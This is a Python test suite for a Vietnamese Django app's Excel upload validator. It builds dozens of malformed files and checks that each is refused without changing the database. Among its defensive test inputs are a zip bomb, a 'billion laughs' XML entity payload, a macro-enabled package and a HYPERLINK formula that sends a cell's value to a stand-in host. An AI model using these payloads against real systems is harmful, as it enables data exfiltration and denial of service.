"""Bad files, each built here: every one is refused with a Vietnamese message that
names where (sheet!cell, or row and column), and the database is exactly as before —
compared in full, history included — even after trying to confirm."""

import io
import zipfile
from datetime import datetime

import pytest
from django.test import override_settings
from openpyxl import Workbook

from chitieu.models import TepTam, TrangThaiNop
from tests import factories
from tests.chitieu import excel
from tests.html import chu

S = "'An Lão'"  # how the form's sheet of An Lão is named in messages


@pytest.fixture
def the_gioi(danh_muc, quan_tri, nhap_lieu_an_lao):
    factories.so_lieu_an_lao_2023(danh_muc)
    return danh_muc


def _mau(dm):
    return excel.bieu_mau_xlsx(dm.ky_2023_6t, dm.an_lao)


def _o(dm, ma, cot, noi_dung=None):
    ws = excel.mo(noi_dung or _mau(dm)).worksheets[0]
    from openpyxl.utils import get_column_letter
    return f"{S}!{get_column_letter(excel.cot_cua(ws, cot))}{excel.dong_cua(ws, ma)}"


def _xls(dm):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "bieu-mau.xls", "Excel 97–2003", "bieu-mau.xls"


def _csv(dm):
    return ("ma_don_vi,ky,ma_chi_tieu,gia_tri\nan-lao,2023-6t,CT01,5\n".encode(), "so-lieu.xlsx",
            "không phải bảng tính .xlsx", "so-lieu.xlsx")


def _txt(dm):
    return "Báo cáo 6 tháng\n447.142".encode(), "bao-cao.txt", "không phải bảng tính .xlsx", "bao-cao.txt"


def _rong(dm):
    return b"", "rong.xlsx", "Tệp rỗng", "rong.xlsx"


def _workbook_trong(dm):
    return excel.luu(Workbook()), "trong.xlsx", "không có dữ liệu nào", "tệp"


def _khong_tieu_de(dm):
    wb = Workbook()
    ws = wb.active
    ws.title = "Số liệu"
    ws["B3"] = "Tổng giá trị sản phẩm"
    ws["C3"] = 447142
    return excel.luu(wb), "x.xlsx", "Không tìm thấy dòng tiêu đề", "'Số liệu'!A3"


def _tieu_de_lech(dm):
    # The merged header's second row (KH tỉnh giao / KH huyện giao) is pushed one row down.
    wb = excel.mo(_mau(dm))
    ws = wb.worksheets[0]
    ws["E8"], ws["F8"] = ws["E7"].value, ws["F7"].value
    ws["E7"], ws["F7"] = None, None
    return excel.luu(wb), "x.xlsx", "Dòng tiêu đề thiếu cột “KH năm”", f"{S}!A6"


def _chu_trong_o_so(dm):
    return (excel.sua(_mau(dm), {("CT01.2", "th"): "khoảng 141 nghìn"}), "x.xlsx", "không phải số",
            _o(dm, "CT01.2", "th"))


def _phay_hang_nghin(dm):
    # "1,500" is one and a half in Vietnamese; CT01.1 takes whole numbers only.
    return excel.sua(_mau(dm), {("CT01.1", "th"): "1,500"}), "x.xlsx", "chỉ nhận số nguyên", _o(dm, "CT01.1", "th")


def _so_am(dm):
    return excel.sua(_mau(dm), {("CT03", "th"): -5}), "x.xlsx", "không nhận số âm", _o(dm, "CT03", "th")


def _ma_la(dm):
    return excel.sua(_mau(dm), {("CT05", "ma"): "CT99"}), "x.xlsx", "Mã chỉ tiêu “CT99” không có", _o(dm, "CT05", "ma")


def _trung_dong(dm):
    noi_dung = excel.sua(_mau(dm), {("CT05", "ma"): "CT03"})
    return noi_dung, "x.xlsx", "xuất hiện hai lần", _o(dm, "CT05", "ma")


def _ky_da_khoa(dm):
    TrangThaiNop.objects.create(don_vi=dm.an_lao, ky=dm.ky_2023_6t, trang_thai=TrangThaiNop.TrangThai.DA_GUI)
    return excel.sua(_mau(dm), {("CT01.2", "th"): 150000}), "x.xlsx", "đã khóa", _o(dm, "CT01.2", "th")


def _sheet_don_vi_khac(dm):
    # Staff of An Lão upload Tuy Phước's form.
    return (excel.bieu_mau_xlsx(dm.ky_2023_6t, dm.tuy_phuoc), "tuy-phuoc.xlsx", "không có quyền nhập số liệu cho "
            "Huyện Tuy Phước", "'Tuy Phước'!A2")


def _qua_lon(dm):
    return _mau(dm) + b"\0" * 1000, "lon.xlsx", "Tệp quá lớn", "lon.xlsx"


def _bom_nen(dm):
    ra = io.BytesIO()
    with zipfile.ZipFile(ra, "w", zipfile.ZIP_DEFLATED) as z:
        with zipfile.ZipFile(io.BytesIO(_mau(dm))) as goc:
            for t in goc.infolist():
                z.writestr(t, goc.read(t))
        z.writestr("xl/media/bom.bin", b"\0" * (3 * 1024 * 1024))
    return ra.getvalue(), "bom.xlsx", "bom nén", "bom.xlsx"


def _cong_thuc_ghi_chu(dm):
    return (excel.sua(_mau(dm), {("CT01", "ghi_chu"): '=HYPERLINK("http://x.example/?"&B9,"Xem")'}), "x.xlsx",
            "Ghi chú là công thức", _o(dm, "CT01", "ghi_chu"))


def _van_ban_dau_bang(dm):
    wb = excel.mo(_mau(dm))
    ws = wb.worksheets[0]
    o = ws.cell(excel.dong_cua(ws, "CT01"), 13)
    o.value = "=1+1"
    o.data_type = "s"  # stored as text, not as a formula
    return excel.luu(wb), "x.xlsx", "bắt đầu bằng dấu “=”", _o(dm, "CT01", "ghi_chu")


def _don_vi_la(dm):
    return (excel.sua(_mau(dm), {"A2": "Đơn vị: Huyện Không Có (mã khong-co)"}), "x.xlsx",
            "Không xác định được đơn vị", f"{S}!A2")


def _ky_la(dm):
    return (excel.sua(_mau(dm), {"A3": "Kỳ báo cáo: 7 tháng 2023 (mã 2023-7t)"}), "x.xlsx",
            "Không xác định được kỳ báo cáo", f"{S}!A3")


def _ty_le_qua_100(dm):
    return excel.sua(_mau(dm), {("CT16", "th"): 130}), "x.xlsx", "0–100", _o(dm, "CT16", "th")


def _qua_nhieu_so_le(dm):
    return (excel.sua(_mau(dm), {("CT03", "th"): "32,45678"}), "x.xlsx", "tối đa 3 chữ số thập phân",
            _o(dm, "CT03", "th"))


def _uoc_la(dm):
    return excel.sua(_mau(dm), {("CT03", "uoc"): "có lẽ"}), "x.xlsx", "không hiểu được", _o(dm, "CT03", "uoc")


def _loi_excel(dm):
    return excel.sua(_mau(dm), {("CT01.3", "th"): "#DIV/0!"}), "x.xlsx", "lỗi của Excel", _o(dm, "CT01.3", "th")


def _ngay_trong_o_so(dm):
    return (excel.sua(_mau(dm), {("CT01.3", "th"): datetime(2023, 6, 30)}), "x.xlsx", "ngày/giờ",
            _o(dm, "CT01.3", "th"))


def _dung_sai_trong_o_so(dm):
    return excel.sua(_mau(dm), {("CT05", "th"): True}), "x.xlsx", "đúng/sai", _o(dm, "CT05", "th")


def _so_qua_lon(dm):
    return excel.sua(_mau(dm), {("CT01", "kh_tinh"): 10**15}), "x.xlsx", "Số quá lớn", _o(dm, "CT01", "kh_tinh")


def _ghi_chu_qua_dai(dm):
    return excel.sua(_mau(dm), {("CT01", "ghi_chu"): "a" * 2001}), "x.xlsx", "dài quá 2000", _o(dm, "CT01", "ghi_chu")


def _ghi_chu_khong_so(dm):
    return (excel.sua(_mau(dm), {("CT05", "ghi_chu"): "chưa có"}), "x.xlsx", "Ghi chú cần đi kèm một giá trị",
            _o(dm, "CT05", "th"))


def _xlsm(dm):
    ra = io.BytesIO()
    with zipfile.ZipFile(ra, "w", zipfile.ZIP_DEFLATED) as z:
        with zipfile.ZipFile(io.BytesIO(_mau(dm))) as goc:
            for t in goc.infolist():
                du_lieu = goc.read(t)
                if t.filename == "[Content_Types].xml":
                    du_lieu = du_lieu.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
                z.writestr(t, du_lieu)
    return ra.getvalue(), "x.xlsx", "không nhận tệp có macro", "x.xlsx"


def _zip_hong(dm):
    return b"PK\x03\x04" + b"\x14\x00" * 500, "hong.xlsx", "bị hỏng", "hong.xlsx"


def _thuc_the_xml(dm):
    # A "billion laughs" entity in a sheet: refused by defusedxml, not expanded.
    ra = io.BytesIO()
    with zipfile.ZipFile(ra, "w", zipfile.ZIP_DEFLATED) as z:
        with zipfile.ZipFile(io.BytesIO(_mau(dm))) as goc:
            for t in goc.infolist():
                du_lieu = goc.read(t)
                if t.filename == "xl/worksheets/sheet1.xml":
                    if du_lieu.startswith(b"<?xml"):
                        du_lieu = du_lieu[du_lieu.index(b"?>") + 2:]
                    du_lieu = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                               b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + du_lieu)
                z.writestr(t, du_lieu)
    return ra.getvalue(), "x.xlsx", "không an toàn", "x.xlsx"


def _ten_khong_khop(dm):
    thay = {("CT05", "ten"): "Thu nhập bình quân", ("CT05", "th"): 50, ("CT05", "ma"): ""}
    return excel.sua(_mau(dm), thay), "x.xlsx", "không khớp chỉ tiêu nào", _o(dm, "CT05", "ten")


def _hai_sheet_mot_don_vi(dm):
    wb = excel.mo(_mau(dm))
    ban_sao = wb.copy_worksheet(wb.worksheets[0])
    ban_sao.title = "An Lão (2)"
    return excel.luu(wb), "x.xlsx", "có hai lần trong tệp", "'An Lão (2)'!"


def _dai_ky_sai(dm):
    return (excel.dai(["ma_don_vi", "ky", "ma_chi_tieu", "gia_tri", "la_uoc", "ghi_chu"],
                      ["an-lao", "2023-6t", "CT01", 447142, 1, ""], ["an-lao", "2023-7x", "CT01.1", 5, 0, ""]),
            "dai.xlsx", "Kỳ “2023-7x” không có", "Sheet!B3 (dòng 3, cột ky)")


def _dai_cap_giao_sai(dm):
    return (excel.dai(["nam", "ma_don_vi", "ma_chi_tieu", "cap_giao", "gia_tri", "can_cu"],
                      [2023, "an-lao", "CT01", "xa", 5, ""]),
            "kh.xlsx", "Cấp giao “xa” không hợp lệ", "Sheet!D2 (dòng 2, cột cap_giao)")


def _dai_don_vi_khac(dm):
    # Long format: a row for Tuy Phước in the file of An Lão's staff.
    return (excel.dai(["ma_don_vi", "ky", "ma_chi_tieu", "gia_tri"], ["an-lao", "2023-6t", "CT05", 5],
                      ["tuy-phuoc", "2023-6t", "CT05", 5]),
            "dai.xlsx", "không có quyền nhập số liệu cho Huyện Tuy Phước", "Sheet!A3 (dòng 3, cột ma_don_vi)")


def _dai_don_vi_la(dm):
    return (excel.dai(["ma_don_vi", "ky", "ma_chi_tieu", "gia_tri"], ["dong-da", "2023-6t", "CT01", 5]),
            "dai.xlsx", "Mã đơn vị “dong-da” không có", "Sheet!A2 (dòng 2, cột ma_don_vi)")


def _dai_chu_trong_so(dm):
    return (excel.dai(["ma_don_vi", "ky", "ma_chi_tieu", "gia_tri"], ["an-lao", "2023-6t", "CT01", "1.5"]),
            "dai.xlsx", "đặt dấu chấm sai chỗ", "Sheet!D2 (dòng 2, cột gia_tri)")


def _cong_thuc_chua_tinh(dm):
    # Saved by a program that does not calculate: the formula has no cached value.
    return (excel.sua(_mau(dm), {("CT01.2", "th"): "=140000+1004"}), "x.xlsx", "chưa có giá trị đã tính",
            _o(dm, "CT01.2", "th"))


def _ghi_chu_ky_tu_dieu_khien(dm):
    # U+0085 (a C1 control) is legal XML, so it reaches the reader; the note is refused.
    return (excel.sua(_mau(dm), {("CT01", "ghi_chu"): "Theo\x85 Chi cục"}), "x.xlsx",
            "Ghi chú chứa ký tự điều khiển hoặc ký tự không hợp lệ (U+0085", _o(dm, "CT01", "ghi_chu"))


def _can_cu_phi_ky_tu(dm):
    return (excel.dai(["nam", "ma_don_vi", "ma_chi_tieu", "cap_giao", "gia_tri", "can_cu"],
                      [2023, "an-lao", "CT01", "tinh", 843000, "Quyết định\ufdd0 19"]),
            "kh.xlsx", "Căn cứ chứa ký tự điều khiển hoặc ký tự không hợp lệ (U+FDD0", "Sheet!F2 (dòng 2, cột can_cu)")


def _ky_tu_ffff_trong_xml(dm):
    # U+FFFF cannot be in XML at all: the sheet is not well-formed.
    dong = '<row r="1"><c r="A1" t="inlineStr"><is><t>a\uffffb</t></is></c></row>'
    return excel.goi_xlsx({"Sheet": excel.sheet_xml(dong)}), "x.xlsx", "bị hỏng", "x.xlsx"


def _so_1e28(dm):
    # Decimal's arithmetic cannot even round it (it used to be a 500).
    return excel.sua(_mau(dm), {("CT01", "kh_tinh"): 1e28}), "x.xlsx", "Số quá lớn", _o(dm, "CT01", "kh_tinh")


def _cong_thuc_bac_hai(dm):
    # Formula cells closed with "</c >": the old scan of the sheet XML was quadratic on these.
    dong = '<row r="1">' + '<c r="A1"><f>1+1</f><v>2</v></c >' * 3000 + "</row>"
    return excel.goi_xlsx({"Sheet": excel.sheet_xml(dong)}), "x.xlsx", "Không tìm thấy dòng tiêu đề", "Sheet!A1"


def _kich_thuoc_ca_sheet(dm):
    # The sheet declares the whole grid; its used range reaches the last cell.
    dong = ('<row r="1"><c r="A1" t="inlineStr"><is><t>Ghi chú</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576" s="0"/></row>')
    return (excel.goi_xlsx({"Sheet": excel.sheet_xml(dong, '<dimension ref="A1:XFD1048576"/>')}), "x.xlsx",
            "Không tìm thấy dòng tiêu đề", "Sheet!A1")


def _cot_qua_xa(dm):
    return (excel.sua(_mau(dm), {"XFD8": "x"}), "x.xlsx", "có dữ liệu ở cột XFD, quá giới hạn 100 cột",
            "Sheet “An Lão”, ô XFD8")


def _o_qua_dai(dm):
    dong = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"a" * 33000}</t></is></c></row>'
    return excel.goi_xlsx({"Sheet": excel.sheet_xml(dong)}), "x.xlsx", "ô dài quá 32.767 ký tự", "ô A1"


def _dia_chi_o_sai(dm):
    dong = '<row r="2"><c r="A1"><v>1</v></c></row>'
    return excel.goi_xlsx({"Sheet": excel.sheet_xml(dong)}), "x.xlsx", "nằm sai dòng 2; tệp bị hỏng", "ô A1"


TEP_XAU = {ham.__name__.lstrip("_"): ham for ham in [
    _xls, _csv, _txt, _rong, _workbook_trong, _khong_tieu_de, _tieu_de_lech, _chu_trong_o_so, _phay_hang_nghin,
    _so_am, _ma_la, _trung_dong, _ky_da_khoa, _sheet_don_vi_khac, _qua_lon, _bom_nen, _cong_thuc_ghi_chu,
    _van_ban_dau_bang, _don_vi_la, _ky_la, _ty_le_qua_100, _qua_nhieu_so_le, _uoc_la, _loi_excel,
    _ngay_trong_o_so, _dung_sai_trong_o_so, _so_qua_lon, _ghi_chu_qua_dai, _ghi_chu_khong_so, _xlsm, _zip_hong,
    _thuc_the_xml, _ten_khong_khop, _hai_sheet_mot_don_vi, _dai_ky_sai, _dai_cap_giao_sai, _dai_don_vi_la,
    _dai_chu_trong_so, _cong_thuc_chua_tinh, _dai_don_vi_khac, _ghi_chu_ky_tu_dieu_khien, _can_cu_phi_ky_tu,
    _ky_tu_ffff_trong_xml, _so_1e28, _cong_thuc_bac_hai, _kich_thuoc_ca_sheet, _cot_qua_xa, _o_qua_dai,
    _dia_chi_o_sai,
]}


def test_there_are_at_least_45_kinds_of_bad_file():
    assert len(TEP_XAU) >= 45


@pytest.mark.parametrize("ten", list(TEP_XAU))
def test_a_bad_file_is_refused_with_where_and_nothing_changes(client, the_gioi, ten):
    noi_dung, ten_tep, thong_bao, vi_tri = TEP_XAU[ten](the_gioi)
    client.force_login(the_gioi_nguoi := factories.User.objects.get(username="nhap_lieu_an_lao"))
    truoc = excel.anh_csdl()
    with override_settings(EXCEL_MAX_BYTES=len(noi_dung) - 1 if ten == "qua_lon" else 10 * 1024 * 1024,
                           EXCEL_MAX_UNCOMPRESSED_BYTES=2 * 1024 * 1024):
        tra_loi = excel.tai_len(client, noi_dung, ten_tep)
        html = tra_loi.content.decode()
        van_ban = chu(html).replace("&#x27;", "'")
        assert thong_bao in van_ban, (ten, van_ban[-1500:])
        assert vi_tri in van_ban, (ten, vi_tri, van_ban[-1500:])
        # No way to apply it: no confirm button, and nothing kept to confirm.
        assert excel.url_xac_nhan(html) is None, ten
        assert not TepTam.objects.filter(nguoi_dung=the_gioi_nguoi).exists(), ten
    assert excel.anh_csdl() == truoc, ten
